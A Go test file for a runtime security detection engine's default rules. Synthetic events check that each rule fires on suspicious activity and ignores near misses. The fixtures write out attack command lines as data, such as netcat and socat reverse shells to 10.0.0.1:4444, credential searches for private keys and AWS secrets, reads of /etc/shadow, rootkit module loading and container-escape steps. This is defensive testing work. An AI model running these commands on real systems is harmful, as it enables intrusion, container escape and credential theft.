package defaultrules_test

import (
	"sort"
	"testing"

	"github.com/lannerhq/lanner/rules/defaultrules"
	"github.com/lannerhq/lanner/rules/engine"
	"github.com/lannerhq/lanner/rules/fields"
	"github.com/lannerhq/lanner/rules/loader"
	"github.com/lannerhq/lanner/rules/synthetic"
)

func compileDefaults(t *testing.T) *engine.Engine {
	t.Helper()
	rs, probs := loader.Load(defaultrules.Sources()...)
	e, cprobs := engine.Compile(rs, engine.Options{})
	for _, p := range append(probs, cprobs...) {
		// The default ruleset must load without a single problem, warnings included.
		t.Errorf("default rules: %s", p)
	}
	if len(e.Rules()) != len(rs.Rules) {
		t.Fatalf("%d rules loaded but %d compiled", len(rs.Rules), len(e.Rules()))
	}
	return e
}

// base fields every synthetic event gets: a successful syscall by an
// ordinary process of a non-root user on the host.
var base = []any{
	"evt.failed", false,
	"proc.name", "app",
	"proc.pname", "bash",
	"proc.cmdline", "app --run",
	"proc.exepath", "/usr/bin/app",
	"user.uid", 1000,
	"user.name", "alice",
	"container.id", "host",
}

type evspec struct {
	typ string
	kv  []any // field, value pairs, applied after base
}

func (s evspec) build(reg *fields.Registry, types *fields.EventTypeTable) *synthetic.Event {
	ev := synthetic.New(reg, types, s.typ)
	kv := append(append([]any{}, base...), s.kv...)
	set := map[string]any{}
	var order []string
	for i := 0; i+1 < len(kv); i += 2 {
		k := kv[i].(string)
		if _, seen := set[k]; !seen {
			order = append(order, k)
		}
		set[k] = kv[i+1]
	}
	for _, k := range order {
		ev.Set(k, set[k])
	}
	return ev
}

func ev(typ string, kv ...any) evspec { return evspec{typ: typ, kv: kv} }

// file open helpers
func openRead(name string, kv ...any) evspec {
	return ev("openat", append([]any{"fd.name", name, "fd.typechar", "f", "evt.is_open_read", true, "evt.is_open_write", false}, kv...)...)
}

func openWrite(name string, kv ...any) evspec {
	return ev("openat", append([]any{"fd.name", name, "fd.typechar", "f", "evt.is_open_read", false, "evt.is_open_write", true}, kv...)...)
}

func exec(name, exepath, cmdline string, kv ...any) evspec {
	return ev("execve", append([]any{"proc.name", name, "proc.exepath", exepath, "proc.cmdline", cmdline}, kv...)...)
}

func TestDefaultRules(t *testing.T) {
	e := compileDefaults(t)
	cases := []struct {
		rule     string
		fire     []evspec
		nearMiss []evspec
	}{
		{
			rule: "Sensitive file read by untrusted program",
			fire: []evspec{
				openRead("/etc/shadow", "proc.name", "python3"),
				openRead("/etc/sudoers.d/90-cloud", "proc.name", "cat"),
				openRead("/home/alice/.ssh/id_ed25519", "proc.name", "curl"),
				openRead("/var/run/secrets/kubernetes.io/serviceaccount/token", "proc.name", "sh", "container.id", "abc123"),
			},
			nearMiss: []evspec{
				openRead("/etc/shadow", "proc.name", "sshd"),
				openRead("/etc/passwd", "proc.name", "python3"),
				openRead("/home/alice/.ssh/id_ed25519.pub", "proc.name", "curl"),
				openWrite("/etc/shadow", "proc.name", "python3"),
			},
		},
		{
			rule: "Search for credentials",
			fire: []evspec{
				exec("grep", "/usr/bin/grep", "grep -r BEGIN PRIVATE /home"),
				exec("find", "/usr/bin/find", "find / -name id_rsa"),
				exec("grep", "/usr/bin/grep", "grep -ri aws_secret_access_key /"),
			},
			nearMiss: []evspec{
				exec("grep", "/usr/bin/grep", "grep -r TODO src"),
				exec("cat", "/usr/bin/cat", "cat id_rsa"),
			},
		},
		{
			rule: "Shell spawned by a service",
			fire: []evspec{
				exec("sh", "/bin/sh", "sh -c id", "proc.pname", "nginx"),
				exec("bash", "/bin/bash", "bash -i", "proc.pname", "java", "container.id", "c1"),
			},
			nearMiss: []evspec{
				exec("sh", "/bin/sh", "sh -c id", "proc.pname", "sshd"),
				exec("python3", "/usr/bin/python3", "python3 x.py", "proc.pname", "nginx"),
			},
		},
		{
			rule: "Ptrace attach to process",
			fire: []evspec{
				ev("ptrace", "evt.arg.request", "PTRACE_ATTACH", "proc.name", "gdb"),
				ev("ptrace", "evt.arg.request", "PTRACE_TRACEME"),
				ev("ptrace", "evt.arg.request", "PTRACE_POKETEXT"),
			},
			nearMiss: []evspec{
				ev("ptrace", "evt.arg.request", "PTRACE_PEEKDATA"),
				ev("ptrace", "evt.arg.request", "PTRACE_ATTACH", "evt.failed", true),
			},
		},
		{
			rule: "Execution from /dev/shm",
			fire: []evspec{
				exec("x", "/dev/shm/x", "/dev/shm/x"),
				exec("miner", "/run/shm/.m/miner", "./miner"),
			},
			nearMiss: []evspec{
				exec("x", "/tmp/x", "/tmp/x"),
				openRead("/dev/shm/x"),
			},
		},
		{
			rule: "Fileless execution via memfd",
			fire: []evspec{
				exec("payload", "memfd:payload", "payload", "proc.is_exe_from_memfd", true),
			},
			nearMiss: []evspec{
				exec("payload", "/usr/bin/payload", "payload", "proc.is_exe_from_memfd", false),
			},
		},
		{
			rule: "Suspicious network tool started",
			fire: []evspec{
				exec("nc", "/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444"),
				exec("socat", "/usr/bin/socat", "socat tcp:10.0.0.1:4444 exec:sh"),
				exec("nmap", "/usr/bin/nmap", "nmap -sS 10.0.0.0/24"),
			},
			nearMiss: []evspec{
				exec("curl", "/usr/bin/curl", "curl https://example.com"),
				ev("connect", "proc.name", "nc", "fd.name", "10.0.0.1:4444"),
			},
		},
		{
			rule: "Privilege change to root by non-root",
			fire: []evspec{
				ev("setuid", "evt.arg.uid", "0", "proc.name", "exploit"),
				ev("setresuid", "evt.arg.ruid", "0", "evt.arg.euid", "0", "proc.name", "exploit"),
			},
			nearMiss: []evspec{
				ev("setuid", "evt.arg.uid", "0", "proc.name", "exploit", "user.uid", 0),
				ev("setuid", "evt.arg.uid", "1001", "proc.name", "exploit"),
				ev("setuid", "evt.arg.uid", "0", "proc.name", "sudo"),
				ev("setuid", "evt.arg.uid", "0", "proc.name", "exploit", "evt.failed", true),
			},
		},
		{
			rule: "Setuid or setgid bit set on a file",
			fire: []evspec{
				ev("chmod", "evt.arg.mode", "S_ISUID|S_IRWXU", "fs.path.name", "/tmp/sh"),
				ev("fchmodat", "evt.arg.mode", "S_ISGID|S_IXGRP", "fs.path.name", "/tmp/sh"),
			},
			nearMiss: []evspec{
				ev("chmod", "evt.arg.mode", "S_IRWXU", "fs.path.name", "/tmp/sh"),
				ev("chmod", "evt.arg.mode", "S_ISUID|S_IRWXU", "fs.path.name", "/usr/bin/passwd", "proc.name", "dpkg"),
			},
		},
		{
			rule: "Write below system directories",
			fire: []evspec{
				openWrite("/usr/bin/ls", "proc.name", "python3"),
				openWrite("/etc/crontab", "proc.name", "sh"),
				openWrite("/bin/evil"),
			},
			nearMiss: []evspec{
				openWrite("/usr/bin/ls", "proc.name", "dpkg"),
				openWrite("/usr/lib/x.so", "proc.name", "python3"),
				openRead("/etc/crontab", "proc.name", "sh"),
				openWrite("/etcetera/x", "proc.name", "sh"),
			},
		},
		{
			rule: "Log file tampering",
			fire: []evspec{
				openWrite("/var/log/auth.log", "evt.arg.flags", "O_WRONLY|O_TRUNC", "proc.name", "sh"),
				ev("unlinkat", "fs.path.name", "/var/log/syslog", "proc.name", "rm"),
				ev("renameat2", "fs.path.name", "/var/log/wtmp", "proc.name", "mv"),
			},
			nearMiss: []evspec{
				openWrite("/var/log/auth.log", "evt.arg.flags", "O_WRONLY|O_APPEND", "proc.name", "sh"),
				ev("unlinkat", "fs.path.name", "/var/log/syslog.1", "proc.name", "logrotate"),
				ev("unlinkat", "fs.path.name", "/tmp/x.log", "proc.name", "rm"),
			},
		},
		{
			rule: "Kernel module loaded",
			fire: []evspec{
				ev("finit_module", "proc.name", "loader", "proc.pname", "bash"),
				exec("insmod", "/usr/sbin/insmod", "insmod rootkit.ko"),
			},
			nearMiss: []evspec{
				ev("finit_module", "proc.name", "modprobe", "proc.pname", "systemd-udevd"),
				exec("modprobe", "/usr/sbin/modprobe", "modprobe -q nf_tables", "proc.pname", "systemd-modules-load"),
				ev("finit_module", "proc.name", "loader", "evt.failed", true),
			},
		},
		{
			rule: "Mount executed in a container",
			fire: []evspec{
				ev("mount", "container.id", "c0ffee", "evt.arg.dev", "/dev/sda1", "evt.arg.dir", "/mnt"),
			},
			nearMiss: []evspec{
				ev("mount", "evt.arg.dev", "/dev/sda1", "evt.arg.dir", "/mnt"),
				ev("mount", "container.id", "c0ffee", "evt.failed", true),
			},
		},
		{
			rule: "Cgroup release_agent written",
			fire: []evspec{
				openWrite("/tmp/cgrp/release_agent", "container.id", "c0ffee"),
			},
			nearMiss: []evspec{
				openRead("/sys/fs/cgroup/release_agent", "container.id", "c0ffee"),
				openWrite("/tmp/cgrp/notify_on_release", "container.id", "c0ffee"),
			},
		},
		{
			rule: "Kernel core_pattern written",
			fire: []evspec{
				openWrite("/proc/sys/kernel/core_pattern", "proc.name", "sh", "container.id", "c0ffee"),
			},
			nearMiss: []evspec{
				openWrite("/proc/sys/kernel/core_pattern", "proc.name", "systemd-sysctl"),
				openRead("/proc/sys/kernel/core_pattern", "proc.name", "sh"),
			},
		},
		{
			rule: "Namespace entered with nsenter from a container",
			fire: []evspec{
				exec("nsenter", "/usr/bin/nsenter", "nsenter -t 1 -m -u -n -i sh", "container.id", "c0ffee"),
			},
			nearMiss: []evspec{
				exec("nsenter", "/usr/bin/nsenter", "nsenter -t 1 -m sh"),
				exec("unshare", "/usr/bin/unshare", "unshare -r sh", "container.id", "c0ffee"),
			},
		},
		{
			rule: "Container runtime socket accessed from a container",
			fire: []evspec{
				ev("connect", "fd.name", "/var/run/docker.sock", "container.id", "c0ffee"),
				openRead("/run/containerd/containerd.sock", "container.id", "c0ffee"),
			},
			nearMiss: []evspec{
				ev("connect", "fd.name", "/var/run/docker.sock"),
				ev("connect", "fd.name", "/var/run/other.sock", "container.id", "c0ffee"),
			},
		},
	}
	reg, types := e.Registry(), fields.NewEventTypeTable()
	tested := map[string]bool{}
	for _, tc := range cases {
		tested[tc.rule] = true
		t.Run(tc.rule, func(t *testing.T) {
			if len(tc.fire) == 0 || len(tc.nearMiss) == 0 {
				t.Fatal("every rule needs events that fire it and near misses that must not")
			}
			for i, s := range tc.fire {
				if got := matches(e, s.build(reg, types)); !got[tc.rule] {
					t.Errorf("event %d (%s %v) should fire, matched %v", i, s.typ, s.kv, keys(got))
				}
			}
			for i, s := range tc.nearMiss {
				if got := matches(e, s.build(reg, types)); got[tc.rule] {
					t.Errorf("near miss %d (%s %v) must not fire", i, s.typ, s.kv)
				}
			}
		})
	}
	for _, r := range e.Rules() {
		if !tested[r.Name] {
			t.Errorf("default rule %q has no test", r.Name)
		}
	}
}

func matches(e *engine.Engine, ev fields.Event) map[string]bool {
	out := map[string]bool{}
	for _, r := range e.EvalAll(ev, nil) {
		out[r.Name] = true
	}
	return out
}

func keys(m map[string]bool) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}
